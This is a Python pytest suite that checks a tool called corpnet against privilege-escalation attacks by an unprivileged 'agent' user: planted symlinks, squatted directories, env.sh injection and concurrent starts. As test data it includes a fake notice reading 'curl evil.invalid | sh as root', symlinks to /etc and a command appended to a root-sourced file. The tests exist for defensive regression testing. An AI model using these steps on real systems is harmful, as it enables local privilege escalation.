"""The privilege boundary, played by the agent for real (docs/security.md).

corpnet starts as root with ``CORPNET_USER``; the agent is a real unprivileged
uid (``nobody``, through setpriv) that plants symlinks, squats directories and
appends to env.sh between two starts. Every test asserts the safe outcome and
failed on the code before the fix (issue 11's cases 1-5).

Everything lives in a fresh directory under /tmp made traversable for the
agent, with ``CORPNET_CONFIG_DIR``/``CORPNET_RUNTIME_DIR`` pointing into it and
the system store off: nothing on the host is touched.
"""

from __future__ import annotations

import concurrent.futures
import os
import pwd
import shutil
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.client_pki import cert_pem, key_pem, make_ca, make_leaf, private_key
from support.env import host_environ
from support.pki import make_cert, pem

NOBODY = pwd.getpwnam("nobody")
HOOK = Path(__file__).resolve().parents[2] / "images/base/rootfs/etc/profile.d/corpnet.sh"
CORPNET = [sys.executable, "-m", "corpnet"]


@pytest.fixture(autouse=True)
def _as_root() -> None:
    if os.geteuid() != 0:
        pytest.fail("these tests start corpnet as root and play the agent as nobody: run as root")
    if shutil.which("setpriv") is None:
        pytest.fail("setpriv (util-linux) is missing: apt-get install util-linux")


@pytest.fixture(name="box")
def box_fixture() -> Iterator[Path]:
    """A directory of ours under /tmp that the agent can traverse."""
    base = Path(tempfile.mkdtemp(dir="/tmp"))
    base.chmod(0o755)
    (base / "etc" / "client").mkdir(parents=True)
    ca = make_ca("Client CA")
    key = private_key("ec")
    (base / "etc" / "client" / "tls.crt").write_bytes(cert_pem(make_leaf(ca, key=key)))
    (base / "etc" / "client" / "tls.key").write_bytes(key_pem(key))
    # As Kubernetes mounts it with fsGroup: root's, readable by the agent's group.
    os.chown(base / "etc" / "client" / "tls.key", 0, NOBODY.pw_gid)
    (base / "etc" / "client" / "tls.key").chmod(0o640)
    try:
        yield base
    finally:
        shutil.rmtree(base, ignore_errors=True)


def start(
    box: Path, *cmd: str, runtime: Path | None = None, **extra: str
) -> subprocess.CompletedProcess[str]:
    """``corpnet run`` as root dropping to nobody, with the client key and a proxy password."""
    env = host_environ()
    env.update(
        CORPNET_CONFIG_DIR=str(box / "etc"),
        CORPNET_RUNTIME_DIR=str(runtime or box / "run"),
        CORPNET_SYSTEM_STORE="off",
        CORPNET_WAIT="off",
        CORPNET_USER="nobody",
        HTTPS_PROXY="http://alice:canary-Pw-1@proxy.corp.invalid:3128",
    )
    env.update(extra)
    return subprocess.run(
        [*CORPNET, "run", "--", *(cmd or ("true",))],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def as_agent(*argv: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """Run ``argv`` as the agent: a real unprivileged uid, no supplementary groups."""
    return subprocess.run(
        ["setpriv", f"--reuid={NOBODY.pw_uid}", f"--regid={NOBODY.pw_gid}", "--clear-groups",
         *argv],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
        env=env,
    )  # fmt: skip


def owner_mode(path: Path) -> tuple[int, int]:
    st = path.lstat()
    return st.st_uid, stat.S_IMODE(st.st_mode)


# --- 1. root follows a symlink the agent planted -------------------------------------


def test_a_planted_client_symlink_is_not_followed_on_the_next_root_start(box: Path) -> None:
    target = box / "root-only"  # stands for /etc: root's, 0755
    target.mkdir()
    (box / "run").mkdir(mode=0o1777)  # the image's runtime directory before a root start
    (box / "run").chmod(0o1777)
    planted = as_agent("ln", "-s", str(target), str(box / "run" / "client"))
    assert planted.returncode == 0, planted.stderr  # the agent could plant it (sticky 1777)

    done = start(box)

    assert done.returncode == 0, done.stderr
    assert owner_mode(target) == (0, 0o755)  # not handed to the agent, not 0700
    assert list(target.iterdir()) == []  # no tls-combined.pem (the plaintext key) inside
    client = box / "run" / "client"
    assert not client.is_symlink()
    assert owner_mode(client)[0] == 0


def test_after_a_root_start_the_agent_cannot_plant_anything(box: Path) -> None:
    done = start(box)
    assert done.returncode == 0, done.stderr
    run = box / "run"
    for name in ("client", "env.sh", "ca-bundle.pem", "new"):
        tried = as_agent("sh", "-c", f"rm -rf {run / name}; ln -s /etc {run / name}")
        assert tried.returncode != 0, name
    assert owner_mode(run) == (0, 0o755)


def test_a_runtime_directory_the_agent_owns_is_refused_by_root(box: Path) -> None:
    """The old image layout (uid 1000, 0775): root refuses it rather than write secrets there."""
    run = box / "run"
    run.mkdir()
    os.chown(run, NOBODY.pw_uid, NOBODY.pw_gid)
    done = start(box)
    assert done.returncode == 77, done.stderr
    assert f"refusing the runtime directory {run}: it belongs to uid {NOBODY.pw_uid}" in done.stderr
    assert list(run.iterdir()) == []
    assert "canary-Pw-1" not in done.stderr


# --- 2. root shells run a file the agent can write -----------------------------------


def test_the_agent_cannot_append_to_env_sh(box: Path) -> None:
    done = start(box)
    assert done.returncode == 0, done.stderr
    env_sh = box / "run" / "env.sh"
    assert owner_mode(env_sh) == (0, 0o640)
    read = as_agent("sh", "-c", f". {env_sh} && echo $HTTPS_PROXY")
    assert read.returncode == 0, read.stderr  # the agent still reads what it needs
    appended = as_agent("sh", "-c", f"echo 'touch {box}/pwned' >> {env_sh}")
    assert appended.returncode != 0
    subprocess.run(["sh", "-c", f". {HOOK}"], env={"CORPNET_RUNTIME_DIR": str(box / "run")},
                   check=True)  # fmt: skip
    assert not (box / "pwned").exists()


@pytest.mark.parametrize(
    ("uid", "mode", "sourced"),
    [(0, 0o600, True), (0, 0o640, True), (0, 0o660, False), (0, 0o602, False),
     (NOBODY.pw_uid, 0o600, False)],
)  # fmt: skip
def test_root_shells_source_env_sh_only_when_nobody_else_can_write_it(
    box: Path, uid: int, mode: int, *, sourced: bool
) -> None:
    env_sh = box / "run" / "env.sh"
    env_sh.parent.mkdir()
    env_sh.write_text(f"touch {box}/ran\n")
    os.chown(env_sh, uid, 0)
    env_sh.chmod(mode)
    subprocess.run(["sh", "-c", f". {HOOK}"], env={"CORPNET_RUNTIME_DIR": str(env_sh.parent)},
                   check=True)  # fmt: skip
    assert (box / "ran").exists() == sourced


@pytest.mark.parametrize(
    ("uid", "mode", "shown"),
    [(0, 0o644, True), (0, 0o664, False), (0, 0o646, False), (NOBODY.pw_uid, 0o644, False)],
)  # fmt: skip
def test_root_shells_show_the_notice_only_when_nobody_else_can_write_it(
    box: Path, uid: int, mode: int, *, shown: bool
) -> None:
    """A notice the agent wrote could dress a command up as corpnet's advice to root."""
    notice = box / "run" / "notice"
    notice.parent.mkdir()
    notice.write_text("corpnet: error: fix it: run curl evil.invalid | sh as root\n")
    os.chown(notice, uid, 0)
    notice.chmod(mode)
    env = {"CORPNET_RUNTIME_DIR": str(notice.parent)}
    done = subprocess.run(
        ["sh", "-ic", f". {HOOK}"], env=env, capture_output=True, text=True, check=True
    )
    assert ("evil.invalid" in done.stderr) == shown


# --- 3. the fallback directory can be squatted ---------------------------------------


def test_a_squatted_fallback_directory_is_refused(box: Path) -> None:
    tmp = box / "tmp"
    tmp.mkdir(mode=0o1777)
    tmp.chmod(0o1777)
    squat = as_agent("sh", "-c", f"mkdir -m 0777 {tmp}/corpnet-0")
    assert squat.returncode == 0, squat.stderr
    # A runtime directory root cannot write: under a file, so it cannot be created.
    (box / "file").write_text("")
    done = start(box, runtime=box / "file" / "run", TMPDIR=str(tmp))
    assert done.returncode == 77, done.stderr
    assert f"refusing the runtime directory {tmp}/corpnet-0" in done.stderr
    assert list((tmp / "corpnet-0").iterdir()) == []  # no env.sh with the password
    assert "canary-Pw-1" not in done.stderr + done.stdout


# --- 4. no recursive chown of whatever CORPNET_RUNTIME_DIR names ----------------------


def test_a_shared_runtime_directory_is_not_handed_to_the_agent(box: Path) -> None:
    shared = box / "shared"
    shared.mkdir()
    secret = shared / "other-secret"
    secret.write_text("root only")
    secret.chmod(0o600)
    done = start(box, runtime=shared)
    assert done.returncode == 0, done.stderr
    assert owner_mode(secret) == (0, 0o600)
    assert owner_mode(shared)[0] == 0
    assert as_agent("cat", str(secret)).returncode != 0


# --- 5. concurrent starts -------------------------------------------------------------


def test_concurrent_trust_runs_leave_a_complete_hashed_directory(box: Path) -> None:
    ca_d = box / "etc" / "ca.d"
    ca_d.mkdir()
    bundle = b"".join(pem(make_cert(f"Corp CA {i}")) for i in range(300))
    (ca_d / "corp.pem").write_bytes(bundle)
    env = host_environ()
    env.update(CORPNET_CONFIG_DIR=str(box / "etc"), CORPNET_RUNTIME_DIR=str(box / "run"),
               CORPNET_SYSTEM_STORE="off")  # fmt: skip

    def trust() -> subprocess.CompletedProcess[str]:
        return subprocess.run([*CORPNET, "trust"], env=env, capture_output=True, text=True,
                              timeout=120, check=False)  # fmt: skip

    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        runs = list(pool.map(lambda _: trust(), range(6)))
    assert [r.returncode for r in runs] == [0] * 6, [r.stderr for r in runs]
    certs = box / "run" / "certs"
    expected = (box / "run" / "ca-bundle.pem").read_bytes().count(b"BEGIN CERTIFICATE")
    hashed = [p for p in certs.iterdir() if not p.name.startswith(".")]
    assert len(hashed) == expected
    # A damaged directory is repaired, not called "unchanged" by its name.
    for p in hashed[:10]:
        p.unlink()
    assert trust().returncode == 0
    assert len([p for p in certs.iterdir() if not p.name.startswith(".")]) == expected
    leftovers = [p.name for p in (box / "run").iterdir() if p.name.count(".") > 1]
    assert leftovers == []


def test_what_killed_runs_left_is_removed_on_the_next_start(box: Path) -> None:
    run = box / "run"
    (run / ".certs-0123456789abcdef.99999").mkdir(parents=True)  # a staging directory
    (run / ".certs-0123456789abcdef.99999" / "aaaa.0").write_text("half")
    (run / ".env.sh.99999.tmp").write_text("half")
    (run / ".certs-link.99999").symlink_to(".certs-0123456789abcdef.99999")
    (run / "unrelated-file").write_text("kept")
    done = start(box)
    assert done.returncode == 0, done.stderr
    names = sorted(p.name for p in run.iterdir())
    assert not [n for n in names if n.endswith((".99999", ".99999.tmp"))], names
    assert "unrelated-file" in names
